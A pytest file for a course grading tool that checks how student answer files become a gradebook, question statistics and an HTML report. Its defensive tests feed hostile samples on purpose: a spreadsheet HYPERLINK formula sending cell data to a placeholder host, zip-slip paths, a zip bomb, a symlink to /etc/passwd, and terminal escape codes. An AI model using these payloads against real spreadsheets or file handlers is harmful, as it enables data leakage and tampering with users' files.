"""``./dev grade``: answer files in, gradebook, question statistics and report out."""

from __future__ import annotations

import csv
import json

import pytest

from aigovbook.exercises import MultipleChoice, MultipleSelect, Numeric, entries, entry
from aigovbook.exercises.grading import SCHEMA, main, state_of
from aigovbook.exercises.quiz.static import book_version


def _right(exercise):
    if isinstance(exercise, MultipleChoice):
        return exercise.answer
    if isinstance(exercise, MultipleSelect):
        return sorted(exercise.answer)
    if isinstance(exercise, Numeric):
        return f"{exercise.answer:.2f}"
    if hasattr(exercise, "categories"):
        return dict(exercise.answer)
    return {o.key: i for i, o in enumerate(exercise.options, start=1)}


def _record(item, answer, params=None):
    exercise = item.build(**(params or {}))
    f = exercise.safe_check(answer)
    return {"params": params or {}, "answer": answer, "state": state_of(f), "score": f.score}


def _file(path, answers, **fields):
    data = {"schema": SCHEMA, "book_version": book_version(), "name": "", "student_id": ""}
    data.update(fields)
    data["answers"] = answers
    path.write_text(json.dumps(data), encoding="utf-8")


@pytest.fixture
def submissions(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    items = entries()
    all_right = {i.id: _record(i, _right(i.build())) for i in items}
    _file(folder / "ana.json", all_right, name="Ana", student_id="s1")
    q42 = entry("Q4.2")
    usa = {"member": "USA", "date": "2019-12-31"}
    wrong = {
        "Q1.2": _record(
            entry("Q1.2"),
            next(
                o.key
                for o in entry("Q1.2").build().options
                if o.key != entry("Q1.2").build().answer
            ),
        ),
        "Q4.2": _record(q42, ["G7"], usa),
    }
    _file(folder / "ben.json", wrong, name="Ben")
    (folder / "broken.json").write_text("{not json", encoding="utf-8")
    _file(folder / "old.json", {}, book_version="0.0.1+deadbeef00", name="Old")
    _file(folder / "unknown.json", {"Q9.9": {"answer": "x"}}, name="Uma")
    _file(folder / "zz-again.json", {}, student_id="s1")  # Ana a second time
    edited = dict(wrong)
    edited["Q1.2"] = {**wrong["Q1.2"], "score": 1.0}
    _file(folder / "edited.json", edited, name="Eve")
    (folder / "notes.txt").write_text("hello", encoding="utf-8")
    return folder


def test_grade_writes_gradebook_questions_and_report(submissions, tmp_path, capsys):
    out = tmp_path / "out"
    assert main([str(submissions), "--out", str(out)]) == 0
    said = capsys.readouterr().out
    for name, reason in [
        ("broken.json", "not JSON"),
        ("old.json", "book version"),
        ("unknown.json", "unknown question id"),
        ("zz-again.json", "already handed in"),
        ("edited.json", "edited"),
        ("notes.txt", "not JSON"),
    ]:
        assert any(
            line.startswith(f"skipped {name}: ") and reason in line for line in said.splitlines()
        ), (
            name,
            said,
        )
    assert "graded 2 of 8" in said
    rows = list(csv.DictReader((out / "gradebook.csv").open(encoding="utf-8")))
    assert [r["student"] for r in rows] == ["s1", "Ben"]
    ids = [e.id for e in entries()]
    assert float(rows[0]["total"]) == len(ids)  # every answer right, recomputed
    assert all(rows[0][i] == "1" for i in ids)
    assert rows[1]["Q1.2"] == "0" and rows[1]["Q1.1"] == ""
    assert float(rows[1]["Q4.2"]) < 1
    questions = {r["id"]: r for r in csv.DictReader((out / "questions.csv").open(encoding="utf-8"))}
    assert questions["Q1.2"]["share_correct"] == "0.50" and questions["Q1.2"]["answered"] == "2"
    assert "[USA, 2019-12-31]" in questions["Q4.2"]["common_wrong_answers"]
    report = (out / "report.html").read_text(encoding="utf-8")
    assert "<svg" in report and "<desc" in report and "<script" not in report
    assert "http://" not in report.replace("http://www.w3.org", "") and "https://" not in report


def test_scores_in_a_file_are_never_trusted(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    item = entry("Q1.2")
    wrong = next(o.key for o in item.build().options if o.key != item.build().answer)
    # no recorded score at all: graded from the answer alone
    _file(folder / "a.json", {"Q1.2": {"answer": wrong}}, student_id="a")
    assert main([str(folder), "--out", str(tmp_path / "out")]) == 0
    rows = list(csv.DictReader((tmp_path / "out" / "gradebook.csv").open(encoding="utf-8")))
    assert rows[0]["Q1.2"] == "0"


def test_nothing_graded_is_exit_1_and_usage_errors_are_2(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "x.json").write_text("[]", encoding="utf-8")
    assert main([str(folder), "--out", str(tmp_path / "out")]) == 1
    assert "skipped x.json: not a book answer file" in capsys.readouterr().out
    assert main([str(tmp_path / "missing"), "--out", str(tmp_path / "out")]) == 2


# --- hostile and awkward input: every bad file is one clear line, good files are graded ---

from aigovbook.exercises import answerfiles, grading  # noqa: E402


def _good_answers():
    item = entry("Q1.2")
    return {"Q1.2": _record(item, item.build().answer)}


def _good(path, **fields):
    path.parent.mkdir(parents=True, exist_ok=True)
    _file(path, _good_answers(), **fields)


def _good_text(**fields):
    data = {"schema": SCHEMA, "book_version": book_version(), "name": "", "student_id": ""}
    data.update(fields)
    data["answers"] = _good_answers()
    return json.dumps(data)


def _run(folder, out, capsys):
    code = main([str(folder), "--out", str(out)])
    return code, capsys.readouterr()


def _skip_line(said, shown, reason):
    lines = [x for x in said.splitlines() if x.startswith(f"skipped {shown}: ")]
    assert lines and reason in lines[0], (shown, reason, said)
    return lines[0]


def _gradebook(out):
    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def folder(tmp_path):
    path = tmp_path / "in"
    path.mkdir()
    return path


def test_deep_nesting_is_one_line_not_a_traceback(folder, tmp_path, capsys):
    _good(folder / "a.json", student_id="a")
    (folder / "deep.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    deep_inside = json.loads(_good_text(student_id="d"))
    deep_inside["extra"] = json.loads("[" * 30 + "]" * 30)
    (folder / "deep2.json").write_text(json.dumps(deep_inside), encoding="utf-8")
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0 and "Traceback" not in said.err
    _skip_line(said.out, "deep.json", "nested more than 20 levels")
    _skip_line(said.out, "deep2.json", "nested more than 20 levels")
    assert [r["student"] for r in _gradebook(tmp_path / "out")] == ["a"]


def test_a_number_with_thousands_of_digits_is_one_line(folder, tmp_path, capsys):
    _good(folder / "a.json", student_id="a")
    text = _good_text(student_id="n").replace('"schema"', '"x": ' + "9" * 5000 + ', "schema"', 1)
    (folder / "digits.json").write_text(text, encoding="utf-8")
    long_float = _good_text(student_id="f").replace(
        '"schema"', '"x": 1.' + "5" * 500 + ', "schema"'
    )
    (folder / "float.json").write_text(long_float, encoding="utf-8")
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0
    _skip_line(said.out, "digits.json", "a number 5000 characters long (limit 40)")
    _skip_line(said.out, "float.json", "a number 502 characters long (limit 40)")


def test_exit_codes_are_distinct(folder, tmp_path, capsys):
    out = tmp_path / "out"
    (folder / "bad.json").write_text("{", encoding="utf-8")
    assert main([str(folder), "--out", str(out)]) == 1  # nothing graded
    _good(folder / "a.json", student_id="a")
    assert main([str(folder), "--out", str(out)]) == 0  # graded
    assert main([str(tmp_path / "missing"), "--out", str(out)]) == 2  # usage
    with pytest.raises(SystemExit) as stop:
        main([str(folder)])  # --out missing: argparse's usage error
    assert stop.value.code == 2
    with pytest.raises(SystemExit) as stop:
        main(["--help"])
    assert stop.value.code == 0
    helptext = " ".join(capsys.readouterr().out.split())
    for words in ("0 ", "1 ", "2 ", "1 MB", "20 levels", "40 characters", "1000 characters"):
        assert words in helptext, (words, helptext)
    assert "formula" in helptext


def test_empty_folder_keeps_an_existing_gradebook(folder, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    for name in ("gradebook.csv", "questions.csv", "report.html"):
        (out / name).write_text(f"precious {name}", encoding="utf-8")
    code, said = _run(folder, out, capsys)
    assert code == 1
    assert "nothing graded" in said.out
    for name in ("gradebook.csv", "questions.csv", "report.html"):
        assert (out / name).read_text(encoding="utf-8") == f"precious {name}"


def test_other_version_only_keeps_an_existing_gradebook(folder, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "gradebook.csv").write_text("precious", encoding="utf-8")
    _file(folder / "old.json", _good_answers(), book_version="0.0.1+deadbeef00", student_id="o")
    code, said = _run(folder, out, capsys)
    assert code == 1
    _skip_line(said.out, "old.json", "book version")
    assert (out / "gradebook.csv").read_text(encoding="utf-8") == "precious"
    assert sorted(p.name for p in out.iterdir()) == ["gradebook.csv"]


def test_outputs_are_replaced_all_or_nothing(folder, tmp_path, capsys, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    (out / "gradebook.csv").write_text("precious", encoding="utf-8")
    _good(folder / "a.json", student_id="a")

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(grading, "report_html", broken)
    with pytest.raises(OSError):
        main([str(folder), "--out", str(out)])
    assert (out / "gradebook.csv").read_text(encoding="utf-8") == "precious"
    monkeypatch.undo()
    assert main([str(folder), "--out", str(out)]) == 0
    assert sorted(p.name for p in out.iterdir()) == [
        "gradebook.csv",
        "questions.csv",
        "report.html",
    ]


def test_sub_folders_are_read_with_their_relative_path(folder, tmp_path, capsys):
    _good(folder / "group-a" / "ana.json", student_id="ana")
    _good(folder / "group-b" / "deeper" / "ben.json", student_id="ben")
    (folder / "group-b" / "broken.json").write_text("{", encoding="utf-8")
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0
    _skip_line(said.out, "group-b/broken.json", "not JSON")
    rows = _gradebook(tmp_path / "out")
    assert [(r["student"], r["file"]) for r in rows] == [
        ("ana", "group-a/ana.json"),
        ("ben", "group-b/deeper/ben.json"),
    ]
    assert "graded 2 of 3" in said.out


def _zip(path, members):
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)


def test_moodle_download_all_zip(folder, tmp_path, capsys):
    # Moodle 4.x (mod/assign/classes/downloader.php): one folder per student,
    # "<full name>_<participant id>_assignsubmission_file/<file>"; Moodle 3.x adds
    # "_" before the "/"; with "download as folders" off the file is flat.
    _zip(
        folder / "COURSE-Answers-42.zip",
        {
            "Jane Doe_12345_assignsubmission_file/my-answers.json": _good_text(),
            "John Roe_12346_assignsubmission_file_/my-answers.json": _good_text(),
            "Ann Lee_12347_assignsubmission_file_my-answers.json": _good_text(),
            "Jane Doe_12345_assignsubmission_file/notes.txt": "hello",
            "Jane Doe_12345_assignsubmission_onlinetext/onlinetext.html": "<p>hi</p>",
        },
    )
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0, said.out
    rows = _gradebook(tmp_path / "out")
    assert [(r["student"], r["file"]) for r in rows] == [
        (
            "Ann Lee (12347)",
            "COURSE-Answers-42.zip/Ann Lee_12347_assignsubmission_file_my-answers.json",
        ),
        (
            "Jane Doe (12345)",
            "COURSE-Answers-42.zip/Jane Doe_12345_assignsubmission_file/my-answers.json",
        ),
        (
            "John Roe (12346)",
            "COURSE-Answers-42.zip/John Roe_12346_assignsubmission_file_/my-answers.json",
        ),
    ]
    _skip_line(
        said.out, "COURSE-Answers-42.zip/Jane Doe_12345_assignsubmission_file/notes.txt", "not JSON"
    )


def test_canvas_download_all_zip(folder, tmp_path, capsys):
    # Canvas (lib/content_zipper.rb): flat files
    # "<sortable name, lower case>[_LATE]_<user id>_<attachment id>_<file name>"
    _zip(
        folder / "submissions.zip",
        {
            "doejane_12345_67890_my-answers.json": _good_text(),
            "roejohn_LATE_12346_67891_my-answers.json": _good_text(),
            "anon_Ab3xY_67892_my-answers.json": _good_text(),
            "doejane_12345_67893_my-answers-1.json": _good_text(),
        },
    )
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0, said.out
    rows = _gradebook(tmp_path / "out")
    assert sorted(r["student"] for r in rows) == [
        "anon_Ab3xY",
        "doejane (12345)",
        "roejohn (12346)",
    ]
    _skip_line(
        said.out, "submissions.zip/doejane_12345_67893_my-answers-1.json", "already handed in"
    )


def test_zip_members_are_bounded(folder, tmp_path, capsys, monkeypatch):
    import zipfile

    path = folder / "hostile.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ok.json", _good_text(student_id="ok"))
        archive.writestr("../escape.json", _good_text(student_id="e1"))
        archive.writestr("/abs.json", _good_text(student_id="e2"))
        archive.writestr("bomb.json", " " * 900_000 + _good_text(student_id="b"))
        archive.writestr("huge.json", _good_text(student_id="h") + " " * 1_100_000)
        link = zipfile.ZipInfo("link.json")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("inner.zip", b"PK")
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0, said.out
    assert [r["student"] for r in _gradebook(tmp_path / "out")] == ["ok"]
    _skip_line(said.out, "hostile.zip/../escape.json", "unsafe path")
    _skip_line(said.out, "hostile.zip//abs.json", "unsafe path")
    _skip_line(said.out, "hostile.zip/bomb.json", "compression ratio")
    _skip_line(said.out, "hostile.zip/huge.json", "larger than the 1 MB limit")
    _skip_line(said.out, "hostile.zip/link.json", "a link")
    _skip_line(said.out, "hostile.zip/inner.zip", "a zip inside a zip")
    monkeypatch.setattr(answerfiles, "MAX_ZIP_MEMBERS", 3)
    code, said = _run(folder, tmp_path / "out2", capsys)
    assert code == 1
    _skip_line(said.out, "hostile.zip", "7 entries (limit 3)")


def test_a_utf8_bom_is_accepted(folder, tmp_path, capsys):
    (folder / "notepad.json").write_text("\ufeff" + _good_text(student_id="bom"), encoding="utf-8")
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0, said.out
    assert [r["student"] for r in _gradebook(tmp_path / "out")] == ["bom"]


def test_links_out_of_the_folder_are_refused(folder, tmp_path, capsys):
    outside = tmp_path / "elsewhere"
    _good(outside / "secret.json", student_id="outside")
    (folder / "link.json").symlink_to(outside / "secret.json")
    (folder / "linked-folder").symlink_to(outside, target_is_directory=True)
    _good(folder / "a.json", student_id="a")
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0
    _skip_line(said.out, "link.json", "a link to outside the folder: refused")
    _skip_line(said.out, "linked-folder", "a link to outside the folder: refused")
    assert [r["student"] for r in _gradebook(tmp_path / "out")] == ["a"]


def test_size_and_text_limits(folder, tmp_path, capsys):
    _good(folder / "a.json", student_id="a")
    (folder / "big.json").write_text(
        _good_text(student_id="big") + " " * 1_100_000, encoding="utf-8"
    )
    _good(folder / "long-name.json", student_id="x", name="N" * 50_000)
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0
    _skip_line(said.out, "big.json", "larger than the 1 MB limit")
    line = _skip_line(said.out, "long-name.json", "a text 50000 characters long (limit 1000)")
    assert len(line) < 200
    assert [r["student"] for r in _gradebook(tmp_path / "out")] == ["a"]
    assert (tmp_path / "out" / "gradebook.csv").stat().st_size < 10_000


def test_formulas_are_neutralised_in_both_csv_files(folder, tmp_path, capsys):
    hostile = {
        "h.json": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
        "s.json": "+SUM(1,2)",
        "a.json": "@SUM(1,2)",
        "m.json": "-2+3",
    }
    for file, name in hostile.items():
        _good(folder / file, name=name)
    numeric = next(e for e in entries() if isinstance(e.build(), Numeric))
    _file(
        folder / "w.json", {numeric.id: _record(numeric, "=1+1")}, name="Wanda <script>x</script>"
    )
    (folder / "=cmd.json").write_text(_good_text(student_id="c"), encoding="utf-8")
    # names are trimmed, so a leading tab or carriage return can only come with a file name
    (folder / "\t=1+1.json").write_text(_good_text(student_id="t"), encoding="utf-8")
    (folder / "\r=1+1.json").write_text(_good_text(student_id="r"), encoding="utf-8")
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0, said.out
    rows = {r["file"]: r for r in _gradebook(tmp_path / "out")}
    for file, name in hostile.items():
        assert rows[file]["name"] == "'" + name and rows[file]["student"] == "'" + name
        assert rows[file]["Q1.2"] == "1" and rows[file]["total"] == "1"  # numbers stay numbers
    assert "'=cmd.json" in rows and rows["'=cmd.json"]["student"] == "c"
    assert rows["'\t=1+1.json"]["student"] == "t" and rows["'\r=1+1.json"]["student"] == "r"
    with (tmp_path / "out" / "questions.csv").open(encoding="utf-8", newline="") as handle:
        questions = {r["id"]: r for r in csv.DictReader(handle)}
    assert questions[numeric.id]["common_wrong_answers"] == "'=1+1 (1)"
    report = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "=1+1 (1)" in report and "<script" not in report


def test_terminal_output_is_sanitised(folder, tmp_path, capsys):
    (folder / "evil\x1b[31m.json").write_text("{", encoding="utf-8")
    _file(folder / "ids.json", {"Q\x1b]0;owned\x07": {"answer": "x"}}, name="n")
    _good(folder / "first.json", student_id="s\x1b[2J")
    _good(folder / "second.json", student_id="s\x1b[2J")
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0
    for char in "\x1b\x07":
        assert char not in said.out and char not in said.err
    _skip_line(said.out, "evil\\x1b[31m.json", "not JSON")
    _skip_line(said.out, "ids.json", "Q\\x1b]0;owned\\x07")
    _skip_line(said.out, "second.json", "s\\x1b[2J")


def test_student_identity_is_normalised(folder, tmp_path, capsys):
    _good(folder / "1.json", name="Ana  María López")
    _good(folder / "2.json", name=" ANA MARÍA\tLÓPEZ ")  # case and white space
    _good(folder / "3.json", name="Ａｎａ María López")  # full-width letters (NFKC)
    _good(folder / "4.json", name="Ana Mari\u0301a López")  # combining accent (NFKC)
    _good(folder / "5.json", name="Ana Maria Lopez")  # no accents: another person
    code, said = _run(folder, tmp_path / "out", capsys)
    assert code == 0
    for file in ("2.json", "3.json", "4.json"):
        _skip_line(said.out, file, "already handed in 1.json")
    assert [r["file"] for r in _gradebook(tmp_path / "out")] == ["1.json", "5.json"]


def test_out_pointing_at_a_file_is_a_usage_error(folder, tmp_path, capsys):
    _good(folder / "a.json", student_id="a")
    target = tmp_path / "results.csv"
    target.write_text("precious", encoding="utf-8")
    code, said = _run(folder, target, capsys)
    assert code == 2
    assert "is a file, not a folder" in said.err and "Traceback" not in said.err
    assert target.read_text(encoding="utf-8") == "precious"


def test_docs_state_the_limits_exit_codes_and_formula_rule():
    from tools.book import ROOT

    readme = " ".join((ROOT / "README.md").read_text(encoding="utf-8").split())
    notebook = json.loads((ROOT / "chapters" / "instructors.ipynb").read_text(encoding="utf-8"))
    cell = next(
        " ".join("".join(c["source"]).split())
        for c in notebook["cells"]
        if "./dev grade" in "".join(c["source"]) and c["cell_type"] == "markdown"
    )
    limits = [
        f"{grading.MAX_FILE_BYTES // 1_048_576} MB",
        f"{grading.MAX_DEPTH} levels",
        f"{grading.MAX_NUMBER_CHARS} characters",
        f"{grading.MAX_TEXT_CHARS} characters",
        f"{grading.MAX_ZIP_MEMBERS:,} entries",
        f"{grading.MAX_ZIP_RATIO}:1",
        f"{grading.MAX_ZIP_READ_BYTES // 1_048_576} MB",
    ]
    for text in (readme, cell):
        for words in [*limits, "0 graded" if text is readme else "0: at least one file graded"]:
            assert words in text, words
        assert "1 nothing graded" in text or "1: nothing graded" in text
        assert "2 usage error" in text or "2: usage error" in text
        assert "OWASP" in text and "`=`, `+`, `-`, `@`, a tab or a carriage return" in text
    assert "NFKC" in cell and "case folding" in cell and "spaces" in cell


def test_results_inside_the_submissions_folder_are_not_read_back(folder, capsys):
    # a guard for the recursive reading (the old grader read the top level only)
    _good(folder / "a.json", student_id="a")
    (folder / ".DS_Store").write_bytes(b"\x00\x01")
    for _ in range(2):
        code, said = _run(folder, folder / "results", capsys)
        assert code == 0
    _skip_line(said.out, "results", "the output folder, not read")
    _skip_line(said.out, ".DS_Store", "hidden, not read")
    assert "gradebook.csv" not in said.out.split("wrote")[0]
    assert [r["student"] for r in _gradebook(folder / "results")] == ["a"]
